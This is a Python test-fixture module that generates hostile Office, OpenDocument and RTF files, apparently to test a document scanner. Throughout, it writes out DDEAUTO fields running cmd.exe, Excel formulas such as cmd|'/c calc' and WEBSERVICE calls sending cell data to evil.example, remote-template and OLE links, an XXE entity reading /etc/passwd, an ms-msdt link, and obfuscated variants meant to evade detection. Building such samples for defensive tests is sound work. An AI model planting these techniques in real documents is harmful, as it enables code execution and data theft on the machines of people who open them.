"""Hostile documents of Office, OpenDocument and RTF."""
# ruff: noqa: E501 - a piece of a file format is shown as it stands in the file

import io
import random
import struct
import uuid
from collections.abc import Iterator

from tests.hostile_files import ole_bytes
from tests.hostile_files.honest_documents import add_parts, book_of, open_documents, sheet_plain, slides, word_plain
from tests.hostile_files.hostile_archives import PROGRAM

Files = Iterator[tuple[str, bytes]]
VBA = ole_bytes.write({"VBA/dir": b"x", "VBA/_VBA_PROJECT": b"\xcc\x61", "PROJECT": b"ID"})
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
RELATION = '<Relationship Id="rId9{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'


def _related(rng: random.Random, kind: str, target: str) -> bytes:
    return add_parts(
        word_plain(rng),
        {},
        {
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                RELATION.format(rng.randint(1, 99), kind, target) + "</Relationships>",
            )
        },
    )


def macros(rng: random.Random) -> Files:
    """Macros under their own and other names."""
    for base, folder, ending in ((word_plain(rng), "word", "docx"), (sheet_plain(rng), "xl", "xlsx")):
        yield f"own-name.{ending}", add_parts(base, {f"{folder}/vbaProject.bin": VBA})
        yield f"other-name.{ending}", add_parts(base, {f"{folder}/media/image9.png": VBA})
        yield f"printer.{ending}", add_parts(base, {f"{folder}/printerSettings1.bin": VBA})
        yield f"case.{ending}", add_parts(base, {f"{folder}/VBAPROJECT.BIN": VBA})
    old = "wordprocessingml.document.main+xml"
    kinds = add_parts(
        word_plain(rng),
        {"word/thing.bin": VBA},
        {
            "[Content_Types].xml": (
                "application/vnd.openxmlformats-officedocument." + old,
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    yield "kind.docm", kinds
    yield "kind.docx", kinds
    yield (
        "renamed.docx",
        add_parts(
            word_plain(rng),
            {"word/x.dat": VBA},
            {
                "[Content_Types].xml": (
                    "</Types>",
                    '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            },
        ),
    )
    yield "xlm.xlsx", add_parts(sheet_plain(rng), {"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='x'/>"})
    yield (
        "xlm-renamed.xlsx",
        add_parts(
            sheet_plain(rng),
            {"xl/sheets9.xml": "<a/>"},
            {
                "[Content_Types].xml": (
                    "</Types>",
                    '<Override PartName="/xl/sheets9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
                )
            },
        ),
    )
    yield (
        "activex.docx",
        add_parts(word_plain(rng), {"word/activeX/activeX1.xml": "<a/>", "word/activeX/activeX1.bin": VBA}),
    )


def templates(rng: random.Random) -> Files:
    """What is fetched on opening."""
    for number, (kind, target) in enumerate((
        ("attachedTemplate", "http://evil.example/t.dotm"), ("attachedTemplate", "https://evil.example/t.dotx"), ("attachedTemplate", "\\\\evil.example\\s\\t.dotm"), ("attachedTemplate", "file://evil.example/s/t.dotm"),
        ("attachedTemplate", "ftp://evil.example/t"), ("attachedTemplate", "HTTP:&#47;&#47;evil.example/x"), ("oleObject", "http://evil.example/x.html!"), ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"), ("frame", "http://evil.example"),
        ("frame", "\\\\evil.example\\f"), ("subDocument", "http://evil.example/s.docx"), ("image", "http://evil.example/p.png"), ("image", "\\\\evil.example\\p.png"), ("aFChunk", "http://evil.example/c.rtf"), ("hyperlink", "file://evil.example/s"),
        ("hyperlink", "\\\\evil.example\\s"), ("hyperlink", "javascript:alert(1)"), ("hyperlink", "ms-msdt:/id%20PCWDiagnostic"), ("hyperlink", "search-ms:query=x"), ("hyperlink", "file:///C:/Windows/System32/calc.exe"), ("audio", "http://evil.example/a.mp3"),
        ("attachedTemplate", "file:///\\\\evil.example\\s\\t.dotx"), ("attachedTemplate", "//evil.example/t.dotx"), ("attachedTemplate", "h&#x74;tp://evil.example/t"),
    )):  # fmt: skip
        yield f"{kind}-{number}.docx", _related(rng, kind, target)
    settings = RELS.format(RELATION.format(1, "attachedTemplate", "http://evil.example/t.dotm"))
    yield (
        "utf16.docx",
        add_parts(
            word_plain(rng),
            {"word/_rels/settings.xml.rels": settings.replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16")},
        ),
    )
    yield "bare-utf16.docx", add_parts(word_plain(rng), {"word/_rels/settings.xml.rels": settings.encode("utf-16-le")})
    yield (
        "ebcdic.docx",
        add_parts(
            word_plain(rng),
            {"word/_rels/settings.xml.rels": settings.replace('"1.0"?', '"1.0" encoding="cp037"?').encode("cp037")},
        ),
    )
    yield (
        "quotes.docx",
        add_parts(
            word_plain(rng),
            {"word/_rels/settings.xml.rels": settings.replace('"', "'").replace("Target=", "\n Target\t=\n ")},
        ),
    )
    yield (
        "prefix.docx",
        add_parts(
            word_plain(rng),
            {
                "word/_rels/settings.xml.rels": settings.replace("<Relationship ", "<x:Relationship ").replace(
                    "xmlns=", "xmlns:x="
                )
            },
        ),
    )


def fields(rng: random.Random) -> Files:
    """DDE in Word: plain, split over runs, in other parts, simple, nested, by references."""

    def run(*codes: str) -> str:
        texts = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
        return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{texts}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'

    command = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
    for number, body in enumerate((
        run("DDEAUTO" + command), run("DDE" + command), run("DD", "EAU", "TO", command), run(" ", "d", "d", "e", "auto", command), run("&#68;&#x44;EAUTO" + command), run("DDE<![CDATA[AUTO]]>" + command), run("DD<!-- -->EAUTO" + command),
        f'<w:p><w:fldSimple w:instr="DDEAUTO{command.replace(chr(34), "&quot;")}"/></w:p><w:sectPr',
        run("DDEAUTO ", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 99 109 100 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>', command),
        run(' INCLUDEPICTURE "http://evil.example/x.png" \\d '), run(' INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\x" '), run(" LINK Excel.Sheet.8 http://evil.example/x "), run(' IF 1 = 1 "x" ', "DDEAUTO" + command),
        run("DDEAUTO" + command).replace("w:instrText", "w:delInstrText"), run("DDEAUTO" + command).replace("w:", "q:"),
    )):  # fmt: skip
        yield f"dde-{number}.docx", add_parts(word_plain(rng), {}, {"word/document.xml": ("<w:sectPr", body)})
    head = (
        "<?xml version='1.0'?><w:hdr xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
        + run("DDEAUTO" + command)[:-9]
        + "</w:hdr>"
    )
    yield "dde-header.docx", add_parts(word_plain(rng), {"word/header1.xml": head})
    yield (
        "dde-utf16.docx",
        add_parts(
            word_plain(rng), {"word/header1.xml": head.replace("'1.0'", "'1.0' encoding='UTF-16'").encode("utf-16")}
        ),
    )


def renamed(rng: random.Random) -> Files:
    """Parts under unusual names: what a part is, is declared elsewhere."""
    header = "<w:hdr xmlns:w='w'><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe'/></w:p></w:hdr>"
    override = '<Override PartName="/word/header1.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>'
    for number, content in enumerate((header.encode(), header.encode("utf-16"), b"\xef\xbb\xbf\n" + header.encode())):
        yield (
            f"header-{number}.docx",
            add_parts(word_plain(rng), {"word/header1.dat": content}, {"[Content_Types].xml": ("</Types>", override)}),
        )
    yield (
        "add-in.docx",
        add_parts(
            word_plain(rng),
            {"word/webextensions/w.xml": "<a/>"},
            {
                "[Content_Types].xml": (
                    "</Types>",
                    '<Override PartName="/word/webextensions/w.xml" ContentType="application/vnd.ms-office.webextension+xml"/></Types>',
                )
            },
        ),
    )
    yield (
        "old-drawing.docx",
        add_parts(
            word_plain(rng),
            {},
            {
                "word/document.xml": (
                    "<w:sectPr",
                    "<w:pict><v:shape><v:imagedata src='http://evil.example/x.png'/></v:shape></w:pict><w:sectPr",
                )
            },
        ),
    )
    yield (
        "binary-sheet-inside.docx",
        add_parts(
            word_plain(rng),
            {"word/embeddings/b.xlsb": next(data for name, data in workbooks(rng) if name == "binary.xlsb")},
        ),
    )


def embedded(rng: random.Random) -> Files:
    """Objects inside."""
    native = ole_bytes.write({"\x01Ole10Native": PROGRAM})
    equation = ole_bytes.write(
        {"Equation Native": rng.randbytes(200)}, uuid.UUID("0002CE02-0000-0000-C000-000000000046").bytes_le
    )
    junk = rng.randbytes(500)
    for number, content in enumerate((native, equation, junk, PROGRAM, ole_bytes.write({"CONTENTS": junk}))):
        yield f"object-{number}.docx", add_parts(word_plain(rng), {"word/embeddings/oleObject1.bin": content})
    yield (
        "workbook.docx",
        add_parts(
            word_plain(rng),
            {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": add_parts(sheet_plain(rng), {"xl/vbaProject.bin": VBA})},
        ),
    )
    yield "chunk.docx", add_parts(word_plain(rng), {"word/afchunk.rtf": rb"{\rtf1{\object\objdata 01}}"})
    yield "picture.docx", add_parts(word_plain(rng), {"word/media/image1.png": PROGRAM})
    yield (
        "entities.docx",
        add_parts(
            word_plain(rng), {"customXml/item1.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
        ),
    )
    yield (
        "laughs.xlsx",
        add_parts(
            sheet_plain(rng), {"xl/styles.xml": '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>'}
        ),
    )
    _, deck = next(slides(rng))
    yield (
        "program.pptx",
        add_parts(deck, {}, {"ppt/slides/slide1.xml": ("ppaction://hlinksldjump", "ppaction://program")}),
    )
    yield (
        "macro.pptx",
        add_parts(deck, {}, {"ppt/slides/slide1.xml": ("ppaction://hlinksldjump", "ppaction://macro?name=x")}),
    )
    yield "locked-part.docx", _lock(word_plain(rng))


def _lock(data: bytes) -> bytes:
    made = bytearray(data)
    for sign, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = made.find(sign, 100) + place
        made[at] |= 1
    return bytes(made)


def workbooks(rng: random.Random) -> Files:
    """Formulas and links of Excel."""
    import openpyxl

    for number, formula in enumerate(
        (
            "=cmd|'/c calc.exe'!A0",
            "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
            "='cmd'|'/c calc'!A1",
            '=WEBSERVICE("http://evil.example/?"&A1)',
            '=HYPERLINK("http://evil.example/?x="&A1,"go")',
            "=1+cmd|'/c calc'!A0",
            '=HYPERLINK("\\\\evil.example\\s","go")',
            '=IMAGE("http://evil.example/p.png")',
            '=DDE("cmd","/c calc","x")',
            "=SUM(1,rundll32|'URL.dll,OpenURL calc.exe'!A)",
            "=_xlfn.WEBSERVICE(B1)",
            '=IF(1,CALL("Kernel32","WinExec","JCJ","calc",0))',
        )
    ):
        book = openpyxl.Workbook()
        book.active["A1"] = formula
        out = io.BytesIO()
        book.save(out)
        yield f"formula-{number}.xlsx", out.getvalue()
    link = "xl/externalLinks/externalLink1.xml"
    yield (
        "ddelink.xlsx",
        add_parts(
            sheet_plain(rng),
            {link: "<externalLink xmlns='x'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"},
        ),
    )
    for number, target in enumerate(
        (
            "http://evil.example/b.xlsx",
            "\\\\evil.example\\b.xlsx",
            "file:///\\\\evil.example\\b.xlsx",
            "file://evil.example/b.xlsx",
        )
    ):
        yield (
            f"link-{number}.xlsx",
            add_parts(
                sheet_plain(rng),
                {
                    "xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(
                        RELATION.format(1, "externalLinkPath", target)
                    )
                },
            ),
        )
    yield (
        "name.xlsx",
        add_parts(
            sheet_plain(rng),
            {"xl/extra.xml": "<definedNames><definedName name='x'>cmd|'/c calc'!A0</definedName></definedNames>"},
        ),
    )
    yield (
        "connection.xlsx",
        add_parts(
            sheet_plain(rng),
            {
                "xl/connections.xml": "<connections><connection id='1' type='4' refreshOnLoad='1'><webPr url='http://evil.example'/></connection></connections>"
            },
        ),
    )
    sheet = "xl/worksheets/sheet9.xml"
    yield (
        "cdata.xlsx",
        add_parts(
            sheet_plain(rng),
            {sheet: "<x:worksheet xmlns:x='x'><x:c><x:f><![CDATA[cmd|'/c calc'!A0]]></x:f></x:c></x:worksheet>"},
        ),
    )
    yield (
        "hidden-comment.xlsx",
        add_parts(
            sheet_plain(rng),
            {
                sheet: "<worksheet><c><v><![CDATA[<!--]]></v><f>cmd|'/c calc'!A0</f><v><![CDATA[-->]]></v></c></worksheet>"
            },
        ),
    )
    yield (
        "binary.xlsb",
        add_parts(
            sheet_plain(rng),
            {},
            {
                "[Content_Types].xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
                )
            },
        ),
    )


def old(rng: random.Random) -> Files:
    """Word, Excel, PowerPoint and Outlook of before 2007."""

    def document(text: bytes = b"", flags: int = 0) -> bytes:
        head = bytearray(4096)
        head[:12] = b"\xec\xa5\xc1\0\0\0\0\0\0\0" + struct.pack("<H", 0x1200 | flags)
        head[1024 : 1024 + len(text)] = text
        return bytes(head)

    yield (
        "macros.doc",
        ole_bytes.write({"WordDocument": document(), "Macros/VBA/dir": b"x", "Macros/VBA/ThisDocument": b"x"}),
    )
    yield "macros.xls", ole_bytes.write({"Workbook": book_of(b""), "_VBA_PROJECT_CUR/VBA/dir": b"x"})
    yield "locked.doc", ole_bytes.write({"WordDocument": document(flags=0x100), "1Table": b""})
    yield "locked.xls", ole_bytes.write({"Workbook": book_of(b"\x2f\0\x06\0\0\0\0\0\0\0")})
    yield "locked.docx", ole_bytes.write({"EncryptedPackage": rng.randbytes(5000), "EncryptionInfo": b"\4\0\4\0"})
    yield "locked.doc", ole_bytes.write({"EncryptedPackage": rng.randbytes(5000), "EncryptionInfo": b"\4\0\4\0"})
    yield "xlm.xls", ole_bytes.write({"Workbook": book_of(b"", sheet_kind=1)})
    yield (
        "dde.doc",
        ole_bytes.write({"WordDocument": document(b'\x13 DDEAUTO c:\\\\cmd.exe "/c calc" \x14x\x15'), "1Table": b""}),
    )
    yield (
        "dde-wide.doc",
        ole_bytes.write(
            {"WordDocument": document("\x13 DDEAUTO c:\\\\cmd.exe \x14x\x15".encode("utf-16-le")), "1Table": b""}
        ),
    )
    yield (
        "equation.doc",
        ole_bytes.write({"WordDocument": document(), "ObjectPool/_1/Equation Native": rng.randbytes(99)}),
    )
    yield (
        "equation-class.doc",
        ole_bytes.write(
            {"WordDocument": document(), "ObjectPool/_1/x": b""},
            classes={"ObjectPool/_1": uuid.UUID("0002CE02-0000-0000-C000-000000000046").bytes_le},
        ),
    )
    yield "packed-file.doc", ole_bytes.write({"WordDocument": document(), "ObjectPool/_1/\x01Ole10Native": PROGRAM})
    yield "link.xls", ole_bytes.write({"Workbook": book_of(b"\xae\x01\x14\0\1\0\x10\0\0cmd\x03/c calc.exe\0")})
    yield (
        "macros.msg",
        ole_bytes.write(
            {
                "__properties_version1.0": bytes(64),
                "__attach_version1.0_#00000000/__substg1.0_37010102": add_parts(
                    word_plain(rng), {"word/vbaProject.bin": VBA}
                ),
                "__attach_version1.0_#00000000/__substg1.0_3707001F": "a.docx".encode("utf-16-le"),
            }
        ),
    )
    yield (
        "program.msg",
        ole_bytes.write(
            {
                "__properties_version1.0": bytes(64),
                "__attach_version1.0_#00000000/__substg1.0_37010102": PROGRAM,
                "__attach_version1.0_#00000000/__substg1.0_3707001F": "a.exe".encode("utf-16-le"),
            }
        ),
    )
    yield "installs.msi", ole_bytes.write({"x": b""}, uuid.UUID("000C1084-0000-0000-C000-000000000046").bytes_le)
    yield (
        "installs.doc",
        ole_bytes.write({"WordDocument": document()}, uuid.UUID("000C1084-0000-0000-C000-000000000046").bytes_le),
    )
    yield "object.ppt", ole_bytes.write({"PowerPoint Document": b"\0\0\x11\x10" + struct.pack("<L", len(VBA)) + VBA})
    action = b"\0\0\xf3\x0f\x10\0\0\0" + bytes(8) + b"\2" + bytes(7)
    yield (
        "program.ppt",
        ole_bytes.write({"PowerPoint Document": b"\x0f\0\xe8\x03" + struct.pack("<L", len(action)) + action}),
    )
    yield "two.doc", ole_bytes.write({"WordDocument": document(), "Workbook": book_of(b"")})
    yield "other.xls", ole_bytes.write({"WordDocument": document()})


def rich_text(rng: random.Random) -> Files:
    """RTF that acts."""
    blob = rng.randbytes(99).hex().encode()
    for number, body in enumerate((
        rb"{\object\objemb{\*\objclass Equation.3}{\*\objdata " + blob + b"}}", rb"{\*\objdata " + blob + b"}", rb"{\object\objautlink\objupdate{\*\objdata 0105}}", rb"{\ob" + b"\0" + rb"ject{\*\obj" + b"\0" + rb"data 01}}",
        rb"{\*\template http://evil.example/t.dotm}", rb"{\*\template \\\\evil.example\\t}", rb"{\*\template \'68\'74\'74\'70\'3a\'2f\'2fevil.example}", rb"{\field{\*\fldinst DDEAUTO c:\\\\cmd.exe \"/c calc\"}{\fldrslt x}}",
        rb"{\field{\*\fldinst {D}{\b D}E\'41UTO c:\\\\cmd.exe}}", rb"{\field{\*\fldinst \u68?\u68?EAUTO cmd}}", rb"{\field{\*\fldinst INCLUDEPICTURE \"http://evil.example/x\"}}", rb"\\{\objdata 01}", rb"{\*\objdata\bin4 abcd}",
    )):  # fmt: skip
        yield f"acts-{number}.rtf", rb"{\rtf1\ansi " + body + b"}"
        if number < 3:
            yield f"acts-{number}.doc", rb"{\rt" + body + b"}"


def open_document(rng: random.Random) -> Files:
    """OpenDocument that acts."""
    made = dict(open_documents(rng))
    text, sheet = made["document.odt"], made["document.ods"]
    yield "macros.odt", add_parts(text, {"Basic/Standard/Module1.xml": "<a/>"})
    yield "python.odt", add_parts(text, {"Scripts/python/x.py": "x"})
    for number, body in enumerate((
        '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>', '<draw:image xlink:href="http://evil.example/x.png"/>', '<text:section-source xlink:href="file://evil.example/s"/>', '<draw:object xlink:href="\\\\evil.example\\s"/>',
        '<text:a xlink:href="javascript:x">x</text:a>', '<text:dde-connection-decl office:dde-application="cmd"/>', '<text:a xlink:href="vnd.sun.star.script:x$y?language=Basic&amp;location=document">x</text:a>',
    )):  # fmt: skip
        yield f"acts-{number}.odt", add_parts(text, {}, {"content.xml": ("<text:p>", body + "<text:p>")})
    yield (
        "dde.ods",
        add_parts(sheet, {}, {"content.xml": ("of:=SUM([.A1:.A2])", "of:=DDE(&quot;cmd&quot;;&quot;x&quot;)")}),
    )
    yield "service.ods", add_parts(sheet, {}, {"content.xml": ("of:=SUM([.A1:.A2])", "of:=WEBSERVICE([.A1])")})
    yield (
        "locked.odt",
        add_parts(
            text,
            {
                "META-INF/manifest.xml": "<manifest:manifest xmlns:manifest='m'><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
            },
        ),
    )


MAKERS = (macros, templates, fields, renamed, embedded, workbooks, old, rich_text, open_document)
